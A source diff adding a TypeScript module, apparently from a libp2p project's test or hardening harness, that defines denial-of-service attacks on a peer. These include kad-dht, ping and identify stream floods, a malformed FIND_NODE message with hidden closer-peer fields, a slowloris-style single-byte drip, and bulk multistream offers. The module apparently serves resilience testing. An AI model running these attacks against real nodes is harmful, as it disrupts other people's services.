@@ -1,0 +1,157 @@
+import type { Stream } from '@libp2p/interface'
+import { DEFAULT_KAD_PROTOCOL } from '../../src/constants.ts'
+import { delimited } from '../../src/door/units.ts'
+import { FIND_NODE } from '../../src/kad/kad-messages.ts'
+import type { Attack, Attacker } from './attacker.ts'
+import { VOCABULARIES, type Vocabulary } from './floods.ts'
+
+const PING_PROTOCOL = '/ipfs/ping/1.0.0'
+const IDENTIFY_PROTOCOL = '/ipfs/id/1.0.0'
+const FEW_STREAMS = 8
+const MANY_STREAMS = 256
+const PIECE_BYTES: number = 64 * 1024
+
+/** Closer peers of kad-dht's messages, two bytes each, behind a cluster level of so many bytes. */
+const HIDDEN_BYTES = 2 ** 20
+const HIDDEN_PEERS: Uint8Array = delimited(
+  Buffer.concat([
+    Uint8Array.of(8, FIND_NODE, 82, 0x80, 0x80, 0x40),
+    new Uint8Array(HIDDEN_BYTES).map((_, i) => (i % 2 === 0 ? 66 : 0))
+  ])
+)
+
+/** The length of a message of 4 MiB, all of which is to come. */
+const HALF_MESSAGE: Uint8Array = Uint8Array.of(0x80, 0x80, 0x80, 0x02)
+
+const OFFERS: Buffer = Buffer.concat([
+  Buffer.from('\x13/multistream/1.0.0\n'),
+  ...new Array(30_000).fill(Uint8Array.of(1, 10))
+])
+
+/** Attacks by libp2p's own protocols. */
+export const libp2pAttacks = {
+  'kad requests': {
+    what: "kad-dht's requests, as small as they come, without a pause",
+    isOffence: false,
+    run: (attacker) => flood(attacker, DEFAULT_KAD_PROTOCOL, FEW_STREAMS)
+  },
+
+  'kad half messages': {
+    what: "halves of kad-dht's largest messages, on as many streams as there may be",
+    isOffence: false,
+    run: (attacker) => flood(attacker, DEFAULT_KAD_PROTOCOL, MANY_STREAMS)
+  },
+
+  pings: {
+    what: 'pings without a pause',
+    isOffence: false,
+    run: (attacker) => flood(attacker, PING_PROTOCOL, FEW_STREAMS)
+  },
+
+  'who are you': {
+    what: 'questions who the peer is, without a pause',
+    isOffence: false,
+    run: (attacker) => flood(attacker, IDENTIFY_PROTOCOL, FEW_STREAMS)
+  },
+
+  'kad hidden fields': {
+    what: "kad-dht's requests, in which peers are hidden where a number should be",
+    isOffence: true,
+    run: (attacker) =>
+      onStream(attacker, DEFAULT_KAD_PROTOCOL, async (stream) => {
+        stream.send(HIDDEN_PEERS)
+        await attacker.pause(5)
+      })
+  },
+
+  'single bytes': {
+    what: 'messages whose bytes come one by one, thousands at once, on as many streams as there may be',
+    isOffence: false,
+    run: (attacker) =>
+      onStream(attacker, DEFAULT_KAD_PROTOCOL, async (stream) => {
+        stream.send(HALF_MESSAGE)
+
+        while (!attacker.isDone && stream.writeStatus === 'writable') {
+          for (let i = 0; i < 1000 && !stream.writableNeedsDrain; i++) {
+            stream.send(Uint8Array.of(0))
+          }
+
+          await attacker.pause(5)
+        }
+      })
+  },
+
+  offers: {
+    what: 'offers of protocols without a name, from somebody who has not said who it is',
+    isOffence: false,
+    async run(attacker) {
+      while (!attacker.isDone) {
+        const socket = attacker.socket()
+        const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
+        socket.resume().end(OFFERS)
+        attacker.tried()
+        await Promise.race([closed, attacker.pause(1000)])
+        socket.destroy()
+      }
+    }
+  }
+} satisfies Record<string, Attack>
+
+/** Uses streams of a protocol one after the other, a few at once. */
+async function onStream(
+  attacker: Attacker,
+  protocol: string,
+  use: (stream: Stream) => Promise<void>
+): Promise<void> {
+  const streams = async (): Promise<void> => {
+    while (!attacker.isDone) {
+      const stream = await attacker.open(protocol)
+
+      if (stream !== undefined) {
+        attacker.tried()
+        await use(stream).catch(() => {})
+        stream.abort(new Error('enough'))
+      }
+    }
+  }
+
+  await Promise.all(Array.from({ length: FEW_STREAMS }, streams))
+}
+
+/** Says the same by one of libp2p's protocols on so many streams, as fast as the victim takes it. */
+async function flood(attacker: Attacker, protocol: string, streams: number): Promise<void> {
+  const { small, half } = VOCABULARIES[protocol] as Vocabulary
+  const [first = half] = small
+  const isHalf = streams === MANY_STREAMS
+  const piece = isHalf
+    ? half
+    : Buffer.concat(new Array(Math.ceil(PIECE_BYTES / first.length)).fill(first))
+
+  await Promise.all(
+    Array.from({ length: streams }, async () => {
+      while (!attacker.isDone) {
+        await sayUntilClosed(attacker, await attacker.open(protocol), { piece, isOnce: isHalf })
+      }
+    })
+  )
+}
+
+async function sayUntilClosed(
+  attacker: Attacker,
+  stream: Stream | undefined,
+  { piece, isOnce }: { piece: Uint8Array; isOnce: boolean }
+): Promise<void> {
+  while (stream?.writeStatus === 'writable' && !attacker.isDone) {
+    attacker.tried()
+
+    if (!stream.send(piece)) {
+      await stream.onDrain({ signal: attacker.signal }).catch(() => {})
+    }
+
+    do {
+      await attacker.pause(1)
+    } while (isOnce && stream.writeStatus === 'writable' && !attacker.isDone)
+  }
+
+  stream?.abort(new Error('enough'))
+}
